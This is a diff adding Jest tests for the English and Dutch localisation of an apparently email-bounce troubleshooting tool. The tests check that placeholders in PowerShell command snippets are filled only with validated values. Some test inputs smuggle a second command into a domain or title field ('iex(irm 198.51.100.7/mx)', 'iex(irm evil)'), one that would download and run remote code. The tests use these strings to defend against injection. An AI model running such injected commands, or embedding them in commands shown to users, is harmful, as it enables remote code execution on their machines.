@@ -1,4 +1,8 @@
-import { pickLocale, uiKeys } from '../../src/i18n';
+import enCauses from '../../src/i18n/en/causes.json';
+import enUi from '../../src/i18n/en/ui.json';
+import { pickLocale, translatorFrom, uiKeys } from '../../src/i18n';
+import nlCauses from '../../src/i18n/nl/causes.json';
+import nlUi from '../../src/i18n/nl/ui.json';
 import { createTranslator } from '../../src/i18n/static';
 
 describe('UI locales', () => {
@@ -31,4 +35,82 @@ describe('UI locales', () => {
   it('falls back to the key for a missing entry instead of throwing', () => {
     expect(createTranslator('nl').t('no.such.key')).toBe('no.such.key');
   });
+});
+
+describe('placeholders for values from a bounce', () => {
+  const catalogues = { en: { ...enUi, ...enCauses }, nl: { ...nlUi, ...nlCauses } } as const;
+  const texts = (locale: 'en' | 'nl'): [string, string][] =>
+    Object.entries(catalogues[locale] as Record<string, string | string[]>).flatMap(([key, entry]) =>
+      (typeof entry === 'string' ? [entry] : entry).map((text): [string, string] => [key, text]),
+    );
+
+  it.each(['en', 'nl'] as const)('put every command with a placeholder between backticks (%s)', (locale) => {
+    const problems: string[] = [];
+    for (const [key, text] of texts(locale)) {
+      const segments = text.split('`');
+      if (segments.length % 2 === 0) problems.push(`${key}: unbalanced backticks`);
+      // Outside the backticks a placeholder follows no cmdlet (Verb-Noun) or parameter (-Type), and
+      // is part of no longer token (mta-sts.{domain}/…): such text is a command or a URL.
+      segments.forEach((segment, i) => {
+        if (i % 2 === 1) return;
+        for (const match of segment.matchAll(/(?:\b[A-Z][a-z]+-[A-Z][A-Za-z]+|\s-[A-Za-z]+)\s+\{\w+\}/g))
+          problems.push(`${key}: ${match[0]}`);
+        for (const match of segment.matchAll(/[^\s("“}]\{\w+\}|\{\w+\}[^\s.,;:)!?"”{]/g))
+          problems.push(`${key}: ${match[0]}`);
+      });
+    }
+    expect(problems).toEqual([]);
+  });
+
+  it('fill a command only with a value that passes its check, and show a placeholder otherwise', () => {
+    const t = translatorFrom('en', {
+      step: 'Check the MX of {domain} (`Resolve-DnsName {domain} -Type MX`).',
+    });
+    expect(t.t('step', { domain: 'fabrikam.example' })).toBe(
+      'Check the MX of fabrikam.example (Resolve-DnsName fabrikam.example -Type MX).',
+    );
+    expect(t.t('step', { domain: 'fabrikam;iex(irm 198.51.100.7/mx)#' })).toBe(
+      "Check the MX of the recipient's domain (Resolve-DnsName <domain> -Type MX).",
+    );
+    expect(t.t('step', {})).toBe(
+      "Check the MX of the recipient's domain (Resolve-DnsName <domain> -Type MX).",
+    );
+  });
+
+  it('never fill a command with a value that has no check', () => {
+    const t = translatorFrom('en', { step: 'Run `Get-Thing {title}` for {title}.' });
+    expect(t.t('step', { title: 'x; iex(irm evil)' })).toBe('Run Get-Thing <title> for x; iex(irm evil).');
+  });
+
+  it('check recipient, domain, server and status in prose too, whoever passes them', () => {
+    const en = createTranslator('en');
+    expect(
+      en.t('verdict.bounce.headline', { recipient: 'ACTION REQUIRED: sign in', others: '', title: 'x' }),
+    ).toBe("Your message to the recipient's address was not delivered: x");
+  });
+
+  it('start a sentence with a capital when the wording replaces the value there', () => {
+    const en = createTranslator('en');
+    const nl = createTranslator('nl');
+    expect(en.t('cause.recipient.unknown.title', { recipient: 'not an address' })).toBe(
+      "The recipient's address does not exist",
+    );
+    expect(nl.t('cause.recipient.unknown.title', { recipient: 'geen adres' })).toBe(
+      'Het adres van de ontvanger bestaat niet',
+    );
+    expect(en.t('cause.recipient.unknown.title', { recipient: 'jan@fabrikam.example' })).toBe(
+      'jan@fabrikam.example does not exist',
+    );
+  });
+
+  it.each(['en', 'nl'] as const)(
+    'leave no placeholder or backtick in any cause text without values (%s)',
+    (locale) => {
+      const t = createTranslator(locale);
+      const left = Object.keys(locale === 'en' ? enCauses : nlCauses)
+        .flatMap((key) => t.list(key, {}))
+        .filter((text) => /[{}`]/.test(text));
+      expect(left).toEqual([]);
+    },
+  );
 });
